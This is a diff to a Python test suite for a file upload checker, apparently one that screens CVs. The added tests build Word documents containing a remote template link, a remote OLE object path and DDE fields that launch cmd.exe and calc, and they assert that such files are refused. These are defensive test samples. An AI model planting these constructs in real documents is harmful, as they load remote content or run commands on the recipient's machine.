@@ -528,6 +528,82 @@ def test_docm_renamed_docx_is_refused(tmp_path: Path) -> None:
     assert _refusal(tmp_path, data, "cv.docx").code == "file_macros"
 
 
+def _settings_rels(rel_type: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        f'relationships/{rel_type}" Target="{target}"{mode}/></Relationships>'
+    ).encode()
+
+
+def _document_with(run: bytes) -> bytes:
+    return DOCUMENT.replace(b"<w:r><w:t>Jane Doe, engineer</w:t></w:r>", run)
+
+
+@pytest.mark.parametrize(
+    ("extra", "detail"),
+    [
+        (  # template injection: Word fetches (and runs) a remote .dotm on opening
+            {
+                "word___rels__settings.xml.rels": _settings_rels(
+                    "attachedTemplate", "http://x.test/t.dotm"
+                )
+            },
+            "a remote attachedTemplate link",
+        ),
+        (
+            {
+                "word___rels__document.xml.rels": _settings_rels(
+                    "oleObject", "\\\\x.test\\share\\o.bin"
+                )
+            },
+            "a remote oleObject link",
+        ),
+        (
+            {
+                "word__document.xml": _document_with(
+                    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"'
+                    b'> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
+                )
+            },
+            "a DDE field",
+        ),
+        (
+            {"word__footer1.xml": _document_with(b'<w:fldSimple w:instr=" DDE calc x y"/>')},
+            "a DDE field",
+        ),
+    ],
+    ids=["remote-template", "remote-ole-object", "ddeauto-field", "dde-simple-field-in-footer"],
+)
+def test_docx_that_loads_or_runs_something_is_refused(
+    tmp_path: Path, extra: dict, detail: str
+) -> None:
+    refused = _refusal(tmp_path, _docx(**extra), "cv.docx")
+    assert (refused.code, refused.status) == ("file_remote_content", 422)
+    assert detail in refused.message and '"cv.docx"' in refused.message
+
+
+def test_docx_with_links_and_ordinary_fields_is_accepted(tmp_path: Path) -> None:
+    # Hyperlinks are external relationships too, and a CV is full of them; PAGE and HYPERLINK
+    # fields are ordinary. None of that is refused.
+    data = _docx(
+        **{
+            "word___rels__document.xml.rels": _settings_rels(
+                "hyperlink", "https://www.linkedin.com/in/jane"
+            ),
+            "word___rels__settings.xml.rels": _settings_rels(
+                "attachedTemplate", "Normal.dotm", mode=""
+            ),
+            "word__document.xml": _document_with(
+                b'<w:fldSimple w:instr=" PAGE "/><w:r><w:instrText> HYPERLINK "https://x.test" '
+                b"</w:instrText></w:r><w:r><w:t>DDE is a protocol I know</w:t></w:r>"
+            ),
+        }
+    )
+    assert _check(tmp_path, data, "cv.docx").content_type == DOCX
+
+
 def test_dotx_is_refused_as_template(tmp_path: Path) -> None:
     main = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
     refused = _refusal(tmp_path, _docx(_content_types(main)), "cv.docx")
@@ -1043,6 +1119,7 @@ def test_refusal_statuses() -> None:
         "file_macros",
         "file_active_content",
         "file_embedded_files",
+        "file_remote_content",
         "file_damaged",
         "file_compression_bomb",
         "attachment_type_unsupported",
